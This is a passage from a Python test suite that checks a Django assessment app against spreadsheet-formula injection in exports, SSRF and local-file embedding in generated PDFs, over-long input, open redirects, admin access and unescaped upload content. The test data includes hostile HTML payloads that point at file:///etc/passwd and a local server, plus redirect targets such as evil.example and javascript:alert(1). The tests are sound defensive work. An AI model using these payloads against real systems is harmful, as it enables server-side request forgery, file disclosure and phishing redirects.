        respondent = make_respondent(assessment, label=f"{formula} #{number}")
        answer_all(respondent, value=2)
    return world


def _is_formula(text):
    return isinstance(text, str) and text[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_neutralises_formulas(client, formulas, owner):
    _login(client, owner)
    url = reverse(
        "assessments:assessment-export", args=[formulas["assessment"].pk, "csv"]
    )
    response = client.get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if _is_formula(cell)]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


def test_xlsx_export_neutralises_formulas(client, formulas, owner):
    _login(client, owner)
    url = reverse(
        "assessments:assessment-export", args=[formulas["assessment"].pk, "xlsx"]
    )
    response = client.get(url)
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert cells
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if _is_formula(cell.value)]


# SSRF and file payloads in the PDF ---------------------------------------------------


class _CountingHandler(BaseHTTPRequestHandler):
    hits = []

    def do_GET(self):  # noqa: N802 (http.server's naming)
        type(self).hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/css")
        self.end_headers()
        self.wfile.write(b"body { background: url(/tracked) }")

    def log_message(self, *args):
        pass


@pytest.fixture
def counting_server():
    _CountingHandler.hits = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _CountingHandler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", _CountingHandler.hits
    server.shutdown()
    server.server_close()


def _pdf_payloads(base):
    return [
        f'<img src="{base}/img.png">',
        f'<link rel="stylesheet" href="{base}/style.css">',
        f"<style>@import url({base}/import.css);</style>",
        f'<div style="background:url({base}/bg.png)">x</div>',
        f'<object data="{base}/object"></object><iframe src="{base}/frame">',
        '<img src="file:///etc/passwd"><link rel="attachment" href="file:///etc/passwd">',
        '<a rel="attachment" href="file:///etc/hostname">attached</a>',
        f'<svg><image href="{base}/svg.png"/></svg>',
    ]


def test_the_pdf_fetches_nothing_and_embeds_no_file_whatever_the_text(
    client, world, owner, counting_server
):
    base, hits = counting_server
    payloads = _pdf_payloads(base)
    partnership = world["partnership"]
    partnership.name = payloads[0][:200]
    partnership.save()
    for organisation, payload in zip(
        partnership.organisations.all(), payloads[1:3], strict=True
    ):
        organisation.name = payload[:200]
        organisation.save()
    assessment = world["assessment"]
    assessment.title = payloads[3][:200]
    assessment.allow_comments = True
    assessment.save()
    respondent = world["respondent"]
    respondent.label = payloads[4][:200]
    respondent.save()
    dimensions = list(assessment.question_set.dimensions.order_by("position"))
    DimensionComment.objects.filter(respondent=respondent).delete()
    second = make_respondent(assessment, label="Second")
    answer_all(second, value=4)
    for dimension, payload in zip(dimensions, payloads, strict=False):
        for who in (respondent, second):
            DimensionComment.objects.create(
                respondent=who, dimension=dimension, text=payload
            )
    _login(client, owner)
    for language in ("nl", "en"):
        url = reverse("assessments:assessment-report", args=[assessment.pk])
        response = client.get(url, {"lang": language})
        assert response.status_code == 200
        assert response["Content-Type"] == "application/pdf"
        pdf = response.content
        reader = PdfReader(io.BytesIO(pdf))
        assert "/EmbeddedFiles" not in str(reader.trailer["/Root"].get("/Names", {}))
        for page in reader.pages:
            for annotation in page.get("/Annots") or []:
                assert annotation.get_object().get("/Subtype") != "/FileAttachment"
        text = "".join(page.extract_text() for page in reader.pages)
        assert "root:x:0:0" not in text
        assert b"/EmbeddedFile" not in pdf
        # The hostile text is shown literally, as text (and not as markup).
        assert "<img src=" in text and "127.0.0.1" in text
        assert "&lt;img" not in text
    assert hits == []


# Input limits ------------------------------------------------------------------------


def _form_classes():
    import importlib
    import inspect
    import pkgutil

    from django import forms

    import assessments.forms as package

    for info in pkgutil.iter_modules(package.__path__):
        module = importlib.import_module(f"{package.__name__}.{info.name}")
        for name, cls in inspect.getmembers(module, inspect.isclass):
            if issubclass(cls, forms.BaseForm) and cls.__module__ == module.__name__:
                yield f"{info.name}.{name}", cls


def test_every_free_text_form_field_has_a_length_cap():
    from django import forms

    uncapped = [
        f"{where}.{field_name}"
        for where, cls in _form_classes()
        for field_name, field in cls.base_fields.items()
        if isinstance(field, forms.CharField) and field.max_length is None
    ]
    assert uncapped == []


def test_every_text_column_a_consultant_or_participant_fills_has_a_length_cap():
    from django.db import models

    filled_by_users = [Partnership, Organisation, Assessment, Respondent]
    filled_by_users += [DimensionComment, get_user_model()]
    uncapped = [
        f"{model.__name__}.{field.name}"
        for model in filled_by_users
        for field in model._meta.get_fields()
        if isinstance(field, models.CharField | models.TextField)
        and field.max_length is None
    ]
    assert uncapped == []


TOO_LONG = "x" * 5000


@pytest.mark.parametrize(
    ("name", "fields"),
    [
        ("partnership-create", {"name": TOO_LONG, "organisations-0-name": "One"}),
        ("partnership-create", {"name": "Ok", "organisations-0-name": TOO_LONG}),
        ("partnership-edit", {"description": TOO_LONG}),
        ("assessment-create", {"title": TOO_LONG}),
        ("assessment-edit", {"title": TOO_LONG}),
        ("respondent-add", {"label": TOO_LONG}),
        ("respondent-add", {"label": "Ok", "email": TOO_LONG + "@example.org"}),
        ("respondent-edit", {"label": TOO_LONG}),
        ("respondent-paste", {"rows": f"{TOO_LONG};;Alfa;nl"}),
        ("collaborator-add", {"user": TOO_LONG}),
        ("account", {"first_name": TOO_LONG}),
    ],
)
def test_over_long_text_is_refused_with_a_message_and_changes_nothing(
    client, world, owner, name, fields
):
    _login(client, owner)
    kwargs = {
        "partnership-create": [],
        "account": [],
        "partnership-edit": [world["partnership"].pk],
        "collaborator-add": [world["partnership"].pk],
        "assessment-create": [world["partnership"].pk],
        "respondent-edit": [world["assessment"].pk, world["respondent"].pk],
    }.get(name, [world["assessment"].pk])
    before = _fingerprint()
    response = _post_page_form(
        client, reverse(f"assessments:{name}", args=kwargs), **fields
    )
    assert response.status_code in (200, 400), response.status_code
    assert _fingerprint() == before


def test_an_over_long_comment_is_refused_by_the_autosave(client, world):
    respondent = world["respondent"]
    _as_participant(client, respondent)
    dimension = respondent.assessment.question_set.dimensions.order_by("position")[1]
    before = _fingerprint()
    response = client.post(
        reverse("assessments:questionnaire-save"), {f"c-{dimension.pk}": TOO_LONG}
    )
    assert response.status_code == 400
    assert _fingerprint() == before


# Redirects, the admin, uploads -------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example",
        "javascript:alert(1)",
    ],
)
def test_login_never_redirects_to_another_site(client, owner, target):
    response = client.post(
        reverse("login") + f"?next={target}",
        {"username": "owner", "password": PASSWORD, "next": target},
    )
    assert response.status_code == 302
    assert "evil.example" not in response["Location"]
    assert not response["Location"].startswith("javascript:")


def test_the_language_switch_never_redirects_to_another_site(client):
    response = client.post(
        "/i18n/setlang/", {"language": "en", "next": "https://evil.example/"}
    )
    assert "evil.example" not in response.get("Location", "")


def test_a_consultant_who_is_not_staff_gets_nothing_from_the_admin(
    client, world, owner
):
    _login(client, owner)
    for url in (
        "/admin/",
        f"/admin/assessments/partnership/{world['partnership'].pk}/change/",
        f"/admin/assessments/respondent/{world['respondent'].pk}/change/",
        "/admin/auth/user/",
    ):
        response = client.get(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith("/admin/login/"), url


def test_an_uploaded_file_with_payloads_is_shown_escaped_on_the_error_page(
    client, world, owner
):
    _login(client, owner)
    question = Question.objects.filter(
        dimension__question_set=world["assessment"].question_set
    ).first()
    payload = _payload("upload")
    rows = [
        "respondent,organisation,dimension,question,value",
        f'"{payload}",Alfa,{question.dimension.code},{question.code},9',
        f'Bob,"{payload}",{question.dimension.code},{question.code},3',
    ]
    upload = io.BytesIO("\n".join(rows).encode())
    upload.name = "answers.csv"
    before = _fingerprint()
    response = client.post(
        reverse("assessments:assessment-import", args=[world["assessment"].pk]),
        {"file": upload},
    )
    assert response.status_code == 400
    body = response.content.decode()
    assert payload not in body and "<script>alert(" not in body
    assert _fingerprint() == before
